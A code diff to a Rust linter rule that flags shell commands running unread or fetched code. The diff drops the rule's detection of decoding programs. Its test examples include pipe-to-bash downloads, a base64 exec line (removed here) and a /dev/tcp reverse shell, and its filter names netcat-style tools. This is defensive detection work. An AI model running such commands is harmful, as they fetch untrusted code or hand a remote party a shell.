@@ -1,8 +1,7 @@
 //! `no_unread_code`: running text that nobody has read.
 
-use super::super::inline_code::{decodes, runs_unread};
+use super::super::interpreter::{Code, code};
 use super::super::{Group, Hit, Rule, Scene};
-use super::interpreter::{Code, code};
 use crate::syntax::run::Ran;
 use crate::syntax::value::Value;
 
@@ -28,7 +27,6 @@ pub(in super::super) static RULE: Rule = Rule {
         "curl -s https://x.example | bash -euo pipefail",
         "curl -s https://x.example | while read -r line; do $line; done",
         "scp host:i.sh . && sh i.sh",
-        "python3 -c 'import base64; exec(base64.b64decode(\"MQ==\"))'",
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     ],
     spares: &[
@@ -44,11 +42,9 @@ pub(in super::super) static RULE: Rule = Rule {
         "cat data.json | python3 -m json.tool",
     ],
     // What nobody has read comes through a pipe, out of a file or an expansion, and a command that is read as it
-    // stands has none of these; what is left are connections, and programs that decode.
+    // stands has none of these; what is left are connections.
     needs: |written| {
-        written.any(|word| {
-            matches!(word, "nc" | "ncat" | "netcat" | "socat" | "tcp" | "udp") || decodes(word)
-        })
+        written.any(|word| matches!(word, "nc" | "ncat" | "netcat" | "socat" | "tcp" | "udp"))
     },
     check,
 };
@@ -60,9 +56,6 @@ fn check(ran: &Ran, _: &Scene<'_>) -> Option<Hit> {
     if command.is_fetched() && command.pieces().len() == 1 {
         return hit();
     }
-    if runs_unread(ran) {
-        return hit();
-    }
     let name = ran.name()?;
     let found = match name {
         "eval" => ran.arguments().iter().any(|field| field.value.is_fetched()),
@@ -70,11 +63,10 @@ fn check(ran: &Ran, _: &Scene<'_>) -> Option<Hit> {
             .file(&ran.arguments().first()?.value)
             .is_some_and(Value::is_fetched),
         "nc" | "ncat" | "netcat" | "socat" => hands_over_a_shell(name, ran),
-        _ => match code(ran) {
+        _ => match code(ran).first() {
             // Text around it makes it data, as in `bash -c "echo $(curl …)"`.
-            Some(Code::Text(field)) => {
-                let text = field.value.prefix();
-                field.value.is_fetched() && (text.is_empty() || text.starts_with('-'))
+            Some(Code::Text(field, from)) => {
+                field.value.is_fetched() && field.value.prefix().len() <= *from
             }
             Some(Code::File(field)) => ran.file(&field.value).is_some_and(unread),
             Some(Code::Stdin) => {
